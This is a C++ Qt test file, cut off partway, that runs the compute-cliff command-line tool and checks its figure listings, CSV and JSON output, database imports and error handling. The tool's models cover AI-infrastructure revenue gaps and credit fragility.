// Runs the compute-cliff executable as a user would and checks its output and exit codes.
#include "core/csv.h"

#include <QCryptographicHash>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <cmath>
#include <limits>
#include <map>
#include <set>
#include <string_view>

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

class TestCli : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void helpAndVersion();
    void figuresCsvParsesBackToTheJsonRows();
    void figuresListsEveryDatasetRow();
    void figuresFiltersByCategory();
    void badUsageFailsCleanly_data();
    void badUsageFailsCleanly();
    void modelReproducesTheSeedClaims();
    void checkDbAcceptsTheEmbeddedStore();
    void checkDbRefusesBadFilesUntouched_data();
    void checkDbRefusesBadFilesUntouched();
    void importRoundTripsTheListing();
    void spreadsheetSafeFromImportToExport();
    void importValidOnlyLeavesOutBadRows();
    void badImportLeavesTheDatabaseUnchanged_data();
    void badImportLeavesTheDatabaseUnchanged();
    void killedImportLeavesAllOrNone();
    void figuresChooseForgetAndDelete();
    void badFigureChangesLeaveTheDatabaseUnchanged_data();
    void badFigureChangesLeaveTheDatabaseUnchanged();
    void benchSavesRunsAndListsTheHistory();
    void benchUnderAnAddressSpaceLimitIsRefused();
    void exportWritesEachFormat();
    void exportBadInputLeavesNoFile_data();
    void exportBadInputLeavesNoFile();
    void modelMonteCarloIsReproducible();
    void solveMeetsItsTargetInTheModel();
    void compareListsDifferencesAndFlips();
    void asOfCutsTheFigures();
    void storyFilesAreCheckedAndAnswered();
    void modelTornadoSortsTheSwings();
    void modelScenarioCarriesDistributions();
    void repeatedOptionsAreRefused_data();
    void repeatedOptionsAreRefused();
    void untrustedTextIsQuotedShortAndEscaped_data();
    void untrustedTextIsQuotedShortAndEscaped();
    void stdoutWriteErrorsFail_data();
    void stdoutWriteErrorsFail();
    void exportRefusesNonRegularTargets_data();
    void exportRefusesNonRegularTargets();
    void guiWithoutDisplayFailsInOneLine_data();
    void guiWithoutDisplayFailsInOneLine();
    void scenarioFileEscapesAreDecoded();
    void badUserDatabaseFailsTheCommand_data();
    void badUserDatabaseFailsTheCommand();
    void readsAndRefusalsLeaveTheDatabaseUnchanged_data();
    void readsAndRefusalsLeaveTheDatabaseUnchanged();
    void readOnlyFolderDatabaseIsRead();
    void nonRegularFilesAreRefused_data();
    void nonRegularFilesAreRefused();
    void killedProcessLeavesNoTemporaryFile();

private:
    struct Run {
        int exitCode = -1;
        QByteArray out;
        QByteArray err;
    };
    Run run(const QStringList &args);
    /// Runs with `env` as the whole environment, stdout to `stdoutFile` when one is given.
    Run runWith(const QStringList &args, const QProcessEnvironment &env, const QString &stdoutFile = {});
    QProcessEnvironment testEnvironment() const;

    QTemporaryDir m_home;
};

QProcessEnvironment TestCli::testEnvironment() const
{
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_home.path()); // never touch the real user store
    env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("offscreen"));
    return env;
}

TestCli::Run TestCli::run(const QStringList &args)
{
    return runWith(args, testEnvironment());
}

TestCli::Run TestCli::runWith(const QStringList &args, const QProcessEnvironment &env,
                              const QString &stdoutFile)
{
    QProcess process;
    process.setProcessEnvironment(env);
    if (!stdoutFile.isEmpty())
        process.setStandardOutputFile(stdoutFile, QIODevice::Append);
    process.start(QStringLiteral(CLIFF_EXECUTABLE), args);
    if (!process.waitForFinished(300000))
        return {};
    return {process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1,
            process.readAllStandardOutput(), process.readAllStandardError()};
}

void TestCli::initTestCase() { QVERIFY(m_home.isValid()); }

void TestCli::helpAndVersion()
{
    const Run help = run({QStringLiteral("--help")});
    QCOMPARE(help.exitCode, 0);
    QVERIFY(help.out.contains("compute-cliff figures"));
    const Run version = run({QStringLiteral("--version")});
    QCOMPARE(version.exitCode, 0);
    QVERIFY(version.out.startsWith("compute-cliff "));
}

void TestCli::figuresCsvParsesBackToTheJsonRows()
{
    const Run csvRun = run({QStringLiteral("figures")});
    QCOMPARE(csvRun.exitCode, 0);
    QVERIFY(csvRun.err.isEmpty());
    const Run jsonRun = run({QStringLiteral("figures"), QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(jsonRun.exitCode, 0);

    auto records = cliff::csv::parse(csvRun.out.toStdString(), "stdout");
    QVERIFY(records.ok());
    const QJsonArray rows = QJsonDocument::fromJson(jsonRun.out).array();
    QVERIFY(rows.size() > 100);
    QCOMPARE(qsizetype(records->size()), rows.size() + 1);

    const std::vector<std::string> &header = records->front().fields;
    QCOMPARE(header.front(), std::string("id"));
    for (qsizetype r = 0; r < rows.size(); ++r) {
        const QJsonObject json = rows.at(r).toObject();
        const std::vector<std::string> &fields = records.value()[std::size_t(r + 1)].fields;
        QCOMPARE(fields.size(), header.size());
        for (std::size_t c = 0; c < header.size(); ++c) {
            const QJsonValue value = json.value(QString::fromStdString(header[c]));
            if (value.isDouble()) {
                // CSV holds the shortest text that reads back to the same double.
                QCOMPARE(QByteArray::fromStdString(fields[c]).toDouble(), value.toDouble());
            } else if (value.isNull()) {
                QVERIFY(fields[c].empty());
            } else {
                QCOMPARE(QString::fromStdString(fields[c]),
                         QString::fromStdString(cliff::csv::textCell(value.toString().toStdString())));
            }
        }
    }
}

void TestCli::figuresListsEveryDatasetRow()
{
    // The datasets' own CSV files, read independently of the store and the executable.
    std::map<std::string, std::vector<std::string>> expected;
    const QDir figures(QStringLiteral(CLIFF_DATASETS_DIR "/figures"));
    for (const QString &name : figures.entryList({QStringLiteral("*.csv")})) {
        QFile file(figures.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        auto records = cliff::csv::parse(file.readAll().toStdString(), name.toStdString());
        QVERIFY(records.ok());
        for (std::size_t r = 1; r < records->size(); ++r)
            expected[records.value()[r].fields.front()] = records.value()[r].fields;
    }
    // Each source's tier, from the sources files' own `tier` column.
    std::map<std::string, std::string> tiers;
    const QDir sources(QStringLiteral(CLIFF_DATASETS_DIR "/sources"));
    for (const QString &name : sources.entryList({QStringLiteral("*.csv")})) {
        QFile file(sources.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        auto records = cliff::csv::parse(file.readAll().toStdString(), name.toStdString());
        QVERIFY(records.ok());
        const std::vector<std::string> &columns = records->front().fields;
        const auto tierColumn = std::size_t(std::find(columns.begin(), columns.end(), "tier") - columns.begin());
        QVERIFY(tierColumn < columns.size());
        for (std::size_t r = 1; r < records->size(); ++r)
            tiers[records.value()[r].fields.front()] = records.value()[r].fields.at(tierColumn);
    }
    const Run result = run({QStringLiteral("figures")});
    QCOMPARE(result.exitCode, 0);
    auto listed = cliff::csv::parse(result.out.toStdString(), "stdout");
    QVERIFY(listed.ok());
    QCOMPARE(listed->size(), expected.size() + 1);
    const std::vector<std::string> &header = listed->front().fields;
    const auto columnOf = [&header](const char *name) {
        return std::size_t(std::find(header.begin(), header.end(), name) - header.begin());
    };
    const std::size_t sourceIdColumn = columnOf("source_id");
    const std::size_t tierColumn = columnOf("source_tier");
    QVERIFY(tierColumn < header.size());
    std::set<std::string> tiersSeen;
    for (std::size_t r = 1; r < listed->size(); ++r) {
        const std::vector<std::string> &row = listed.value()[r].fields;
        const auto it = expected.find(row.front());
        QVERIFY2(it != expected.end(), row.front().c_str());
        // Text columns match the dataset exactly, spreadsheet-safe (the "- ..." quotes get a
        // leading '); numbers match as numbers.
        for (std::size_t c = 0; c < it->second.size(); ++c) {
            if (header[c] == "value" || header[c] == "low" || header[c] == "high")
                QCOMPARE(QByteArray::fromStdString(row[c]).toDouble(),
                         QByteArray::fromStdString(it->second[c]).toDouble());
            else
                QCOMPARE(row[c], cliff::csv::textCell(it->second[c]));
        }
        QCOMPARE(row.back(), std::string("shipped"));
        QCOMPARE(row[tierColumn], tiers.at(row[sourceIdColumn]));
        tiersSeen.insert(row[tierColumn]);
    }
    QCOMPARE(tiersSeen, (std::set<std::string>{"other", "primary", "secondary"}));
}

void TestCli::figuresFiltersByCategory()
{
    const Run result = run({QStringLiteral("figures"), QStringLiteral("--category"), QStringLiteral("credit"),
                            QStringLiteral("--format=json")});
    QCOMPARE(result.exitCode, 0);
    const QJsonArray rows = QJsonDocument::fromJson(result.out).array();
    QVERIFY(!rows.isEmpty());
    for (const QJsonValue &row : rows)
        QCOMPARE(row.toObject().value(QStringLiteral("category")).toString(), QStringLiteral("credit"));
}

void TestCli::badUsageFailsCleanly_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("mentions");
    QTest::newRow("unknown option") << QStringList{"figures", "--colour", "red"} << 2 << QByteArray("--colour");
    QTest::newRow("unknown category") << QStringList{"figures", "--category", "gossip"} << 2 << QByteArray("gossip");
    QTest::newRow("unknown format") << QStringList{"figures", "--format", "xml"} << 2 << QByteArray("xml");
    QTest::newRow("missing value") << QStringList{"figures", "--format"} << 2 << QByteArray("--format");
    QTest::newRow("stray argument") << QStringList{"figures", "extra"} << 2 << QByteArray("extra");
    QTest::newRow("unknown command") << QStringList{"frobnicate"} << 2 << QByteArray("frobnicate");
    QTest::newRow("check-db two files") << QStringList{"check-db", "a", "b"} << 2 << QByteArray("b");
    QTest::newRow("unknown view") << QStringList{"model", "--view", "gossip", "--format", "json"} << 2 << QByteArray("gossip");
    QTest::newRow("unknown key") << QStringList{"model", "--view", "fiber", "--set", "colour=1", "--format", "json"} << 2 << QByteArray("colour");
    QTest::newRow("out of range") << QStringList{"model", "--view", "fiber", "--set", "wacc=9", "--format", "json"} << 2 << QByteArray("wacc");
    QTest::newRow("not a number") << QStringList{"model", "--view", "fiber", "--set", "wacc=abc", "--format", "json"} << 2 << QByteArray("wacc");
    QTest::newRow("bench history as sql") << QStringList{"bench", "--history", "--format", "sql"} << 2 << QByteArray("sql");
    QTest::newRow("unknown simd level") << QStringList{"bench", "--simd", "avx9"} << 2 << QByteArray("avx9");
    QTest::newRow("more threads than CPUs") << QStringList{"bench", "--threads", "1000", "--no-save"} << 2
                                            << QByteArray("logical CPUs");
    QTest::newRow("budget beyond memory")
        << QStringList{"bench", "--budget-gib", "1000000", "--no-save", "--quiet"} << 1
        << QByteArray("1000000.00 GiB is more than");
    QTest::newRow("missing scenario") << QStringList{"model", "--view", "fiber", "--scenario", "/nonexistent/s.json", "--format", "json"} << 1 << QByteArray("s.json");
    QTest::newRow("no draws") << QStringList{"model", "--view", "fiber", "--monte-carlo", "0", "--format", "json"} << 2 << QByteArray("--monte-carlo");
    QTest::newRow("too many draws") << QStringList{"model", "--view", "fiber", "--monte-carlo", "100000000", "--format", "json"} << 2 << QByteArray("100000000");
    QTest::newRow("draws in words") << QStringList{"model", "--view", "fiber", "--monte-carlo", "many", "--format", "json"} << 2 << QByteArray("many");
    QTest::newRow("seed not a number") << QStringList{"model", "--view", "fiber", "--monte-carlo", "10", "--seed", "x1", "--format", "json"} << 2 << QByteArray("--seed");
    QTest::newRow("negative seed") << QStringList{"model", "--view", "fiber", "--monte-carlo", "10", "--seed", "-3", "--format", "json"} << 2 << QByteArray("-3");
    QTest::newRow("seed alone") << QStringList{"model", "--view", "fiber", "--seed", "3", "--format", "json"} << 2 << QByteArray("--monte-carlo");
    QTest::newRow("tornado for moat") << QStringList{"model", "--view", "moat", "--tornado", "--format", "json"} << 2 << QByteArray("moat");
    QTest::newRow("monte carlo for moat") << QStringList{"model", "--view", "moat", "--monte-carlo", "100", "--format", "json"} << 2 << QByteArray("moat");
    QTest::newRow("as-of not a date") << QStringList{"model", "--view", "fiber", "--as-of", "last year"} << 2 << QByteArray("YYYY-MM-DD");
    QTest::newRow("solve without target") << QStringList{"solve", "--view", "fiber"} << 2 << QByteArray("--target");
    QTest::newRow("solve moat") << QStringList{"solve", "--view", "moat", "--target", "x=1"} << 2 << QByteArray("moat");
    QTest::newRow("solve unknown key") << QStringList{"solve", "--view", "fiber", "--target", "profit>0"} << 2 << QByteArray("profit");
    QTest::newRow("solve bad value") << QStringList{"solve", "--view", "fiber", "--target", "strand_year<soon"} << 2 << QByteArray("soon");
    QTest::newRow("solve vary unknown") << QStringList{"solve", "--view", "fiber", "--target", "strand_year<2029", "--vary", "colour"} << 2 << QByteArray("colour");
    QTest::newRow("solve vary other view") << QStringList{"solve", "--view", "fiber", "--target", "strand_year<2029", "--vary", "hyperscaler_leverage"} << 2 << QByteArray("hyperscaler_leverage");
    QTest::newRow("solve no draws") << QStringList{"solve", "--view", "fiber", "--target", "strand_year<2029", "--draws", "0"} << 2 << QByteArray("--draws");
    QTest::newRow("compare one case") << QStringList{"compare", "--view", "fiber", "defaults"} << 2 << QByteArray("2 to 4");
    QTest::newRow("compare five cases") << QStringList{"compare", "--view", "fiber", "defaults", "defaults", "defaults", "defaults", "defaults"} << 2 << QByteArray("defaults");
    QTest::newRow("compare moat") << QStringList{"compare", "--view", "moat", "defaults", "story:1"} << 2 << QByteArray("moat");
    QTest::newRow("compare story 9") << QStringList{"compare", "--view", "fiber", "defaults", "story:9"} << 2 << QByteArray("story:9");
    QTest::newRow("compare bad date") << QStringList{"compare", "--view", "fiber", "defaults", "defaults@2025-13-01"} << 2 << QByteArray("month 13");
    QTest::newRow("compare bad link") << QStringList{"compare", "--view", "fiber", "defaults", "compute-cliff:view=fiber&wacc=9"} << 2 << QByteArray("wacc");
    QTest::newRow("compare missing file") << QStringList{"compare", "--view", "fiber", "defaults", "/nonexistent/b.json"} << 1 << QByteArray("b.json");
    QTest::newRow("compare as xml") << QStringList{"compare", "--view", "fiber", "defaults", "story:5", "--format", "xml"} << 2 << QByteArray("xml");
}

void TestCli::solveMeetsItsTargetInTheModel()
{
    const Run solved = run({"solve", "--view", "fiber", "--target", "strand_year<2029", "--draws", "500"});
    QCOMPARE(solved.exitCode, 0);
    const QJsonObject answer = QJsonDocument::fromJson(solved.out).object().value("answer").toObject();
    QVERIFY(answer.value("reachable").toBool());
    QCOMPARE(answer.value("quantity_at_start").toDouble(), 2029.0);
    // The answer's assumptions, run through `model`, strand before 2029.
    QStringList args{"model", "--view", "fiber"};
    const QJsonObject moved = answer.value("answer_assumptions").toObject();
    QVERIFY(!moved.isEmpty());
    for (auto it = moved.begin(); it != moved.end(); ++it)
        args << "--set" << it.key() + "=" + QString::number(it.value().toDouble(), 'g', 17);
    const Run model = run(args);
    QCOMPARE(model.exitCode, 0);
    const int strand = QJsonDocument::fromJson(model.out).object().value("outputs").toObject()
                           .value("strand_year").toInt();
    QVERIFY2(strand > 0 && strand < 2029, model.out.left(200).constData());
    const double chance = answer.value("chance_under_ranges").toDouble();
    QVERIFY(chance >= 0.0 && chance <= 1.0);
}

void TestCli::compareListsDifferencesAndFlips()
{
    QTemporaryDir dir;
    const QString path = dir.filePath("elastic.json");
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(R"({"view": "fiber", "assumptions": {"demand_elasticity": 2.0}})");
    file.close();
    const Run compared = run({"compare", "--view", "fiber", "defaults", path});
    QCOMPARE(compared.exitCode, 0);
    const QJsonObject document = QJsonDocument::fromJson(compared.out).object();
    const QJsonArray differing = document.value("differing_assumptions").toArray();
    QCOMPARE(differing.size(), 1);
    QCOMPARE(differing.at(0).toObject().value("key").toString(), QStringLiteral("demand_elasticity"));
    QCOMPARE(document.value("cases").toArray().at(1).toObject().value("name").toString(),
             QStringLiteral("elastic"));
    // Each case's headline is what `model` gives for it; the difference is taken from the first.
    const auto strandOf = [&](const QStringList &extra) {
        const Run model = run(QStringList{"model", "--view", "fiber"} + extra);
        const QJsonValue year = QJsonDocument::fromJson(model.out).object().value("outputs").toObject()
                                    .value("strand_year");
        return year.isNull() ? 2036.0 : year.toDouble();
    };
    const double atDefaults = strandOf({});
    const double elastic = strandOf({"--set", "demand_elasticity=2"});
    for (const QJsonValue &headline : document.value("headlines").toArray()) {
        const QJsonObject row = headline.toObject();
        if (row.value("key").toString() != u"strand_year")
            continue;
        QCOMPARE(row.value("values").toArray().at(0).toDouble(), atDefaults);
        QCOMPARE(row.value("values").toArray().at(1).toDouble(), elastic);
        QCOMPARE(row.value("minus_first").toArray().at(1).toDouble(), elastic - atDefaults);
    }
    // A statement flips exactly when its truth differs between the two cases.
    const bool flipsBefore2030 = (atDefaults < 2030) != (elastic < 2030);
    bool listed = false;
    for (const QJsonValue &flip : document.value("flipped").toArray())
        listed = listed || flip.toObject().value("key").toString() == u"strand_before_2030";
    QCOMPARE(listed, flipsBefore2030);

    // Repeated names are numbered; a statement a case's date cannot support is left empty.
    const Run same = run({"compare", "--view", "fiber", "defaults", "defaults", "defaults"});
    QJsonArray sameCases = QJsonDocument::fromJson(same.out).object().value("cases").toArray();
    QCOMPARE(sameCases.at(2).toObject().value("name").toString(), QStringLiteral("defaults (3)"));
    const Run early = run({"compare", "--view", "cost-curves", "defaults", "defaults@2024-12-01", "--format", "csv"});
    QCOMPARE(early.exitCode, 0);
    QVERIFY2(early.out.contains("statement,lag_within_observed,") && early.out.contains(",0,\r\n"),
             early.out.constData());

    const Run csv = run({"compare", "--view", "fiber", "defaults", path, "--format", "csv"});
    QCOMPARE(csv.exitCode, 0);
    QVERIFY(csv.out.startsWith("kind,key,label,defaults,elastic\r\n"));
    QVERIFY(csv.out.contains("assumption,demand_elasticity,"));
}

void TestCli::asOfCutsTheFigures()
{
    const Run all = run({"figures", "--format", "json"});
    QCOMPARE(all.exitCode, 0);
    // Count by hand the figures whose source date (its last day, for a month or a year) is on or
    // before the date, and those without one.
    int before = 0;
    int undated = 0;
    int total = 0;
    for (const QJsonValue &value : QJsonDocument::fromJson(all.out).array()) {
        const QJsonObject row = value.toObject();
        if (row.value("origin").toString() != u"shipped")
            continue;
        ++total;
        QString published = row.value("source_published").toString();
        if (published.isEmpty()) {
            ++undated;
            continue;
        }
        if (published.size() == 4)
            published += "-12-31";
        else if (published.size() == 7)
            published += "-31"; // no month-only source falls in the cut's own month
        before += published <= u"2025-06-30" ? 1 : 0;
    }
    const Run model = run({"model", "--view", "revenue-gap", "--as-of", "2025-06-30"});
    QCOMPARE(model.exitCode, 0);
    const QJsonObject asOf = QJsonDocument::fromJson(model.out).object().value("as_of").toObject();
    QCOMPARE(asOf.value("date").toString(), QStringLiteral("2025-06-30"));
    QCOMPARE(asOf.value("figures_used").toInt(), before);
    QCOMPARE(asOf.value("left_out_undated").toInt(), undated);
    QCOMPARE(asOf.value("left_out_published_later").toInt(), total - before - undated);
    QVERIFY(before > 0 && before < total);
}

void TestCli::storyFilesAreCheckedAndAnswered()
{
    // The example in docs/ reads, and its figure answer is the figure's value in the typed unit.
    const Run example = run({"story", CLIFF_DATASETS_DIR "/../docs/example.story"});
    QCOMPARE(example.exitCode, 0);
    const QJsonArray steps = QJsonDocument::fromJson(example.out).object().value("steps").toArray();
    QCOMPARE(steps.size(), 2);
    const QJsonObject question = steps.at(0).toObject().value("question").toObject();
    QCOMPARE(question.value("figure_id").toString(), QStringLiteral("v3-final-run-cost-report"));
    QCOMPARE(question.value("answer").toDouble(), 5.576); // $5.576M in US$ millions
    // The shipped story asks a question at every step.
    const Run shipped = run({"story"});
    QCOMPARE(shipped.exitCode, 0);
    for (const QJsonValue &step : QJsonDocument::fromJson(shipped.out).object().value("steps").toArray())
        QVERIFY(step.toObject().contains("question"));

    QTemporaryDir dir;
    const QString path = dir.filePath("bad.story");
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("[step]\ntitle: T\nview: moat\ncaption: C\nquestion: Q?\nanswer: figure nowhere\nunit: count\n");
    file.close();
    const Run bad = run({"story", path});
    QCOMPARE(bad.exitCode, 1);
    QVERIFY(bad.out.isEmpty());
    QVERIFY2(bad.err.contains("bad.story:6: ") && bad.err.contains("nowhere"), bad.err.constData());
}

void TestCli::badUsageFailsCleanly()
{
    QFETCH(QStringList, args);
    QFETCH(int, exitCode);
    QFETCH(QByteArray, mentions);
    const Run result = run(args);
    QCOMPARE(result.exitCode, exitCode);
    QVERIFY(result.out.isEmpty());
    QCOMPARE(result.err.count('\n'), 1);
    QVERIFY2(result.err.contains(mentions), result.err.constData());
}

void TestCli::modelReproducesTheSeedClaims()
{
    const Run gap = run({"model", "--view", "revenue-gap", "--format", "json"});
    QCOMPARE(gap.exitCode, 0);
    const QJsonObject outputs = QJsonDocument::fromJson(gap.out).object().value("outputs").toObject();
    // Bain's claims, as quoted in the white paper ($2T a year needed by 2030, $800B short), are
    // cited markers beside the model's own numbers, not inputs the model is tuned to.
    QCOMPARE(outputs.value("claimed_required_2030_usd").toDouble(), 2e12);
    QCOMPARE(outputs.value("claimed_shortfall_2030_usd").toDouble(), 0.8e12);
    const double required = outputs.value("required_revenue_2030_usd").toDouble();
    const double projected = outputs.value("projected_revenue_2030_usd").toDouble();
    QVERIFY(required > 0.0 && projected > 0.0);
    QVERIFY(std::abs(outputs.value("gap_2030_usd").toDouble() - (required - projected)) < 1.0);
    // The projection grows reported revenue at the default growth from its base year.
    const double base = outputs.value("revenue_base_usd").toDouble();
    const int baseYear = outputs.value("revenue_base_year").toInt();
    QVERIFY(std::abs(projected - base * std::pow(1.42, 2030 - baseYear)) < 1e-6 * projected);
    QVERIFY(outputs.value("revenue_base_businesses").toArray().size() >= 2);

    const Run fragility = run({"model", "--view", "fragility", "--format", "json"});
    QCOMPARE(fragility.exitCode, 0);
    const QJsonObject fragile = QJsonDocument::fromJson(fragility.out).object().value("outputs").toObject();
    QStringList order;
    for (const QJsonValue &entry : fragile.value("ranking").toArray()) {
        const QString party = entry.toObject().value("party").toString();
        if (party == "Diversified hyperscalers" || party == "Model labs"
            || party == "Debt-financed neoclouds" || party == "Equity holders")
            order << party;
    }
    // The white paper's order, least to most fragile.
    QCOMPARE(order, (QStringList{"Diversified hyperscalers", "Model labs", "Debt-financed neoclouds",
                                 "Equity holders"}));
    // A scenario file written from one run's assumptions reproduces that run.
    const Run shifted = run({"model", "--view", "revenue-gap", "--set", "wacc=0.12", "--format", "json"});
    QCOMPARE(shifted.exitCode, 0);
    const QString scenario = m_home.filePath("scenario.json");
    QFile file(scenario);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(QJsonDocument(QJsonDocument::fromJson(shifted.out).object().value("assumptions").toObject()).toJson());
    file.close();
    const Run replay = run({"model", "--view", "revenue-gap", "--scenario", scenario, "--format", "json"});
    QCOMPARE(replay.exitCode, 0);
    QCOMPARE(replay.out, shifted.out);
}

void TestCli::checkDbAcceptsTheEmbeddedStore()
{
    const Run result = run({QStringLiteral("check-db")});
    QCOMPARE(result.exitCode, 0);
    QVERIFY(result.out.contains("ok"));
}

void TestCli::checkDbRefusesBadFilesUntouched_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QByteArray>("reason");
    QTest::newRow("empty") << QByteArray() << QByteArray("empty");
    QTest::newRow("text") << QByteArray("hello, world\n") << QByteArray("not an SQLite");
    QTest::newRow("header only") << QByteArray("SQLite format 3").append('\0').append(QByteArray(84, '\1'))
                                 << QByteArray("");
}

void TestCli::checkDbRefusesBadFilesUntouched()
{
    QFETCH(QByteArray, content);
    QFETCH(QByteArray, reason);
    const QString path = m_home.filePath(QStringLiteral("bad.sqlite"));
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        file.write(content);
    }
    const Run result = run({QStringLiteral("check-db"), path});
    QCOMPARE(result.exitCode, 1);
    QVERIFY(result.err.contains(path.toUtf8()));
    QVERIFY2(result.err.contains(reason), result.err.constData());
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), content);
}

static const QByteArray kListingHeader =
    "id,category,entity,metric,value,low,high,unit,period,kind,source_id,read_in,quoted,quote,"
    "note,source_title,source_publisher,source_url,source_published,source_kind,origin\n";

static QByteArray userRow(const QByteArray &id, const QByteArray &billions)
{
    return id + ",capex,Acme,Capex," + billions + "000000000,,,USD,2025,reported,acme-10k,,$" + billions
           + " billion,\"Acme spent $" + billions + " billion, it said\",,Acme annual report,Acme Inc.,"
           + "https://example.org/acme-10k,2025-02,filing,user\r\n";
}

static QByteArray sha256(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return QCryptographicHash::hash(file.readAll(), QCryptographicHash::Sha256);
}

static void writeBytes(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(bytes);
}

void TestCli::importRoundTripsTheListing()
{
    const QString db = m_home.filePath(QStringLiteral("round-trip.sqlite"));
    const QString mine = m_home.filePath(QStringLiteral("mine.csv"));
    writeBytes(mine, kListingHeader + userRow("acme-capex-2025", "5"));
    const Run added = run({"import", mine, "--user-db", db});
    QCOMPARE(added.exitCode, 0);
    QVERIFY(added.err.isEmpty());
    QVERIFY2(added.out.contains("1 added"), added.out.constData());

    // figures -> import -> figures, into a new database, gives the same bytes.
    const Run listed = run({"figures", "--user-db", db});
    QCOMPARE(listed.exitCode, 0);
    auto rows = cliff::csv::parse(listed.out.toStdString(), "stdout");
    QVERIFY(rows.ok());
    QCOMPARE(rows->back().fields.front(), std::string("acme-capex-2025"));
    QCOMPARE(rows->back().fields.back(), std::string("user"));
    QCOMPARE(std::count_if(rows->begin(), rows->end(), [](const cliff::csv::Record &r) { return r.fields.back() == "user"; }), 1);
    const QString exported = m_home.filePath(QStringLiteral("exported.csv"));
    writeBytes(exported, listed.out);
    const QString copy = m_home.filePath(QStringLiteral("copy.sqlite"));
    const Run imported = run({"import", exported, "--user-db", copy});
    QCOMPARE(imported.exitCode, 0);
    // The shipped rows are reported as already shipped, not copied.
    QVERIFY2(imported.out.contains("1 added") && imported.out.contains(QByteArray::number(qsizetype(rows->size()) - 2) + " already shipped"),
             imported.out.constData());
    const Run relisted = run({"figures", "--user-db", copy});
    QCOMPARE(relisted.exitCode, 0);
    QCOMPARE(relisted.out, listed.out);

    // Importing the listing into the database it came from changes nothing.
    const QByteArray before = sha256(db);
    const Run again = run({"import", exported, "--user-db", db});
    QCOMPARE(again.exitCode, 0);
    QVERIFY2(again.out.contains("0 added, 0 replaced, 1 already yours"), again.out.constData());
    QCOMPARE(sha256(db), before);
}

/// A user figure for the slot of the latest shipped Oracle CDS spread (151.3 bp): credit, Oracle,
/// 5-year CDS spread, 2025-12-12.
static const QByteArray kOracleRival =
    "my-oracle-cds,credit,Oracle,5-year CDS spread,200,,,bp,2025-12-12,reported,broker-note,,200,"
    "Oracle CDS at 200 bps,,Credit weekly,Broker Inc.,https://example.org/credit-weekly,2025-12,"
    "analysis,user\r\n";

/// Oracle's five-year default probability at the default 35% recovery, worked out by hand:
/// 1 - exp(-5 x spread / (1 - 0.35)).
static double oraclePd(double spreadBp) { return 1.0 - std::exp(-5.0 * spreadBp / 10000.0 / 0.65); }

void TestCli::figuresChooseForgetAndDelete()
{
    const QString db = m_home.filePath(QStringLiteral("choices.sqlite"));
    const QString rival = m_home.filePath(QStringLiteral("rival.csv"));
    writeBytes(rival, kListingHeader + kOracleRival);
    QCOMPARE(run({"import", rival, "--user-db", db}).exitCode, 0);
    const auto modelPd = [this, &db] {
        const Run model = run({"model", "--view", "fragility", "--format", "json", "--user-db", db});
        const QJsonObject oracle = QJsonDocument::fromJson(model.out).object().value("outputs").toObject().value("cds").toObject().value("Oracle").toObject();
        return oracle.value("implied_pd_5y").toDouble(-1.0);
    };
    QVERIFY(std::abs(modelPd() - oraclePd(200.0)) < 1e-12); // the user's figure wins its slot

    const Run use = run({"figures", "--use", "credit-oracle-cds-2025-12-12-ice", "--user-db", db});
    QCOMPARE(use.exitCode, 0);
    QVERIFY(use.err.isEmpty());
    QVERIFY2(use.out.startsWith("the models now read 'credit-oracle-cds-2025-12-12-ice' for credit / Oracle / 5-year CDS spread / 2025-12-12"),
             use.out.constData());
    QVERIFY(std::abs(modelPd() - oraclePd(151.3)) < 1e-12);

    const Run forget = run({"figures", "--forget-choice", "credit-oracle-cds-2025-12-12-ice", "--user-db", db});
    QCOMPARE(forget.exitCode, 0);
    QVERIFY(std::abs(modelPd() - oraclePd(200.0)) < 1e-12);

    const Run remove = run({"figures", "--delete=my-oracle-cds", "--user-db", db});
    QCOMPARE(remove.exitCode, 0);
    QVERIFY2(remove.out.startsWith("deleted your figure 'my-oracle-cds'"), remove.out.constData());
    QVERIFY(std::abs(modelPd() - oraclePd(151.3)) < 1e-12);
    const Run listed = run({"figures", "--user-db", db});
    QVERIFY(!listed.out.contains(",user\r\n"));
}

void TestCli::badFigureChangesLeaveTheDatabaseUnchanged_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("mentions");
    QTest::newRow("unknown id") << QStringList{"--use", "nope"} << "--use: no figure \"nope\"";
    QTest::newRow("no rival") << QStringList{"--use", "oracle-implied-pd-ria"} << "\"oracle-implied-pd-ria\" has no rival";
    QTest::newRow("no choice") << QStringList{"--forget-choice", "my-oracle-cds"} << "no choice is recorded";
    QTest::newRow("shipped") << QStringList{"--delete", "credit-oracle-cds-2025-12-12-ice"} << "is a shipped figure";
    QTest::newRow("unknown delete") << QStringList{"--delete", "nope"} << "--delete: no figure \"nope\"";
    QTest::newRow("two changes") << QStringList{"--use", "my-oracle-cds", "--delete", "my-oracle-cds"} << "takes one figure id";
    QTest::newRow("with a listing option") << QStringList{"--delete", "my-oracle-cds", "--format", "json"} << "takes one figure id";
    QTest::newRow("no id") << QStringList{"--delete"} << "'--delete' needs a value";
}

void TestCli::badFigureChangesLeaveTheDatabaseUnchanged()
{
